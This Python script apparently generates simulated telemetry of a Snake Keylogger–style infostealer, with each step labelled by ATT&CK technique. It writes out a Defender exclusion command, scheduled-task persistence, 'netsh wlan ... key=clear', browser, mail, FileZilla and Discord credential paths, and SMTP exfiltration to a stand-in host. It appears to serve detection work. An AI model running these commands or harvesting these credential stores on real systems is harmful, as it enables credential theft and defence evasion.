"""An order that is a program: it exempts itself from Defender, registers a task by XML, fills RegSvcs, which logs keys,
takes passwords of browsers, mail, radio networks and transfer programs, and mails them. Resembles Snake Keylogger and Agent
Tesla of 2024-2025."""
import deeds
from scenery import Desktop

SETTING = {"start": "2024-09-30T11:12:44", "user": "EINKAUF03\\m.brandt", "home": "C:\\Users\\m.brandt",
           "computer": "EINKAUF03"}
MAIL = ("203.0.113.120", 587)
KEY = r"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths"
BROWSERS = (("Google\\Chrome\\User Data", "Chrome"), ("Microsoft\\Edge\\User Data", "Edge"),
            ("BraveSoftware\\Brave-Browser\\User Data", None), ("Opera Software\\Opera Stable", None),
            ("Vivaldi\\User Data", None), ("Yandex\\YandexBrowser\\User Data", None))


def story(c):
    desktop = Desktop(c)
    for address, name in (("203.0.113.121", "checkip.dyndns.org"), ("203.0.113.122", "reallyfreegeoip.org"),
                          (MAIL[0], "mail.tischlerei-ost.example")):
        c.host(address, name)
    desktop.murmur(7)
    order = c.spawn(desktop.explorer, c.home + r"\Desktop\Bestellung_2024-0930.exe", integrity="High", is_64bit=False,
                    company="Hydro Calc", description="PumpTable")
    deeds.begin(c, order)
    c.load(order, r"C:\Windows\Microsoft.NET\Framework\v4.0.30319\clr.dll", 0x70000000)
    copy = c.home + r"\AppData\Roaming\xLbVtQ.exe"
    with c.behaviour("copies itself to the profile", "medium", ("T1036", "T1105", "T1070.010", "T1074.001", "T1547"),
                     order, "xLbVtQ.exe"):
        c.read(order, order.image, 640_000, 131072)
        c.drop(order, copy, 640_000, 131072)
    with deeds.told(c, "exempts itself from Defender", "high", ("T1685", "T1059.001"), (order, desktop.defender),
                    ("Add-MpPreference", "xLbVtQ.exe")) as helpers:
        helpers += deeds.command(c, order, r'"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" Add-MpPreference '
                                 '-ExclusionPath "%s"' % copy, shell=False)
        c.set_value(desktop.defender, KEY + "\\" + copy, "REG_DWORD", 0)
    xml = c.home + r"\AppData\Local\Temp\tmp5D1A.tmp"
    with deeds.told(c, "registers a task of its copy by a file of XML", "high", "T1053.005", order,
                    ("xLbVtQ", "tmp5D1A.tmp")) as helpers:
        c.drop(order, xml, 1600)
        helpers += deeds.command(c, order,
                                 r'"C:\Windows\System32\schtasks.exe" /Create /TN "Updates\xLbVtQ" /XML "%s"' % xml,
                                 shell=False)
        deeds.task(c, desktop, r"Updates\xLbVtQ", 41)
        c.delete(order, xml)
    with deeds.told(c, "starts RegSvcs without work, and puts its code into it", "medium",
                    ("T1055.012", "T1055", "T1218.009"), order,
                    "RegSvcs.exe") as helpers:
        spy = c.spawn(order, r"C:\Windows\Microsoft.NET\Framework\v4.0.30319\RegSvcs.exe", is_64bit=False, **deeds.MICROSOFT)
        helpers.append(spy)
        deeds.thread(c, spy)
    deeds.begin(c, spy)
    c.exit(order)
    desktop.resolve()
    with c.behaviour("asks services of the web for its own address and country", "low", ("T1016", "T1614"), spy,
                     ("checkip.dyndns.org", "reallyfreegeoip.org")):
        c.exchange(spy, ("203.0.113.121", 80), 49700, [150], [310])
        c.exchange(spy, ("203.0.113.122", 443), 49701, [420, 200], [3100, 600])
    with c.behaviour("takes the passwords stored by browsers", "high", "T1555.003", spy, "Login Data"):
        for base, name in BROWSERS:
            folder = c.home + "\\AppData\\Local\\" + base
            if name:
                c.read(spy, folder + r"\Local State", 80_000)
                c.read(spy, folder + r"\Default\Login Data", 46_000)
            else:
                c.probe(spy, folder + r"\Default\Login Data", "PATH NOT FOUND")
    with c.behaviour("takes the passwords of Outlook", "high", ("T1552.002", "T1555", "T1114.001"), spy,
                     ("9375CFF0413111d3B88A00104B2A6676", "Outlook")):
        for version in ("15.0", "16.0"):
            key = r"HKCU\Software\Microsoft\Office\%s\Outlook\Profiles\Outlook\9375CFF0413111d3B88A00104B2A6676" % version
            c.open_key(spy, key, result="SUCCESS" if version == "16.0" else "NAME NOT FOUND")
        for name in ("Email", "IMAP Password", "POP3 Password", "SMTP Password"):
            c.query(spy, key + r"\00000002" + "\\" + name, "REG_BINARY", bytes(60))
    with c.behaviour("takes the passwords of Thunderbird", "high", ("T1555", "T1552.001", "T1555.003"), spy,
                     ("Thunderbird", "logins.json")):
        folder = c.home + r"\AppData\Roaming\Thunderbird"
        c.read(spy, folder + r"\profiles.ini", 300)
        for name in ("logins.json", "key4.db"):
            c.read(spy, folder + r"\Profiles\u1m4.default" + "\\" + name, 30_000)
    with c.behaviour("takes the passwords of FileZilla", "high", ("T1552.001", "T1555"), spy, "recentservers.xml"):
        c.read(spy, c.home + r"\AppData\Roaming\FileZilla\recentservers.xml", 3000)
    with c.behaviour("looks for passwords of Foxmail and of other mail programs", "medium",
                     ("T1552.001", "T1552.002", "T1555"), spy,
                     ("Foxmail", "Postbox", "IncrediMail")):
        c.open_key(spy, r"HKCU\Software\Classes\Foxmail.url.mailto\Shell\open\command", result="NAME NOT FOUND")
        c.open_key(spy, r"HKCU\Software\IncrediMail\Identities", result="NAME NOT FOUND")
        c.probe(spy, c.home + r"\AppData\Roaming\PostboxApp\profiles.ini", "PATH NOT FOUND")
    with deeds.told(c, "asks for the keys of radio networks", "high",
                    ("T1555", "T1016.002", "T1552", "T1555.004", "T1552.001"), spy,
                    ("wlan", "key=clear")) as helpers:
        helpers += deeds.command(c, spy, "netsh wlan show profile", shell=False)
        helpers += deeds.command(c, spy, 'netsh wlan show profile name="Werkstatt" key=clear', shell=False)
    with c.behaviour("takes the session of Discord", "high", ("T1539", "T1552.001", "T1555", "T1005", "T1555.003"), spy,
                     ("discord", "leveldb")):
        deeds.list_folder(c, spy, c.home + r"\AppData\Roaming\discord\Local Storage\leveldb")
        for name in ("000011.ldb", "000013.log"):
            c.read(spy, c.home + r"\AppData\Roaming\discord\Local Storage\leveldb" + "\\" + name, 20_000)
    folder = c.home + r"\Documents\WinSys"
    with c.behaviour("writes down the keys pressed", "medium", "T1056.001", spy, "Keystroke.txt"):
        c.folder(spy, folder)
        c.drop(spy, folder + r"\Keystroke.txt", 60)
        for number in range(10):
            c.open(spy, folder + r"\Keystroke.txt", 0x120116, 3)
            c.write_at(spy, folder + r"\Keystroke.txt", 60 + 33 * number, 33)
            c.close(spy, folder + r"\Keystroke.txt")
            c.wait(3)
    with c.behaviour("takes the screen", "low", "T1113", spy, "Screenshot.png"):
        for _ in range(2):
            c.drop(spy, folder + r"\Screenshot.png", 280_000)
            c.read(spy, folder + r"\Screenshot.png", 280_000)
            c.delete(spy, folder + r"\Screenshot.png")
            c.wait(20)
    with c.behaviour("mails what it has away", "high", ("T1048.003", "T1071.003", "T1048", "T1041"), spy,
                     ("mail.tischlerei-ost.example", "587")):
        desktop.resolve(55007)
        for number in range(2):
            c.exchange(spy, MAIL, 49710 + number, [40, 120, 60, 60, 14_600, 14_600, 3100], [210, 180, 60, 60, 40])
    desktop.murmur(6)
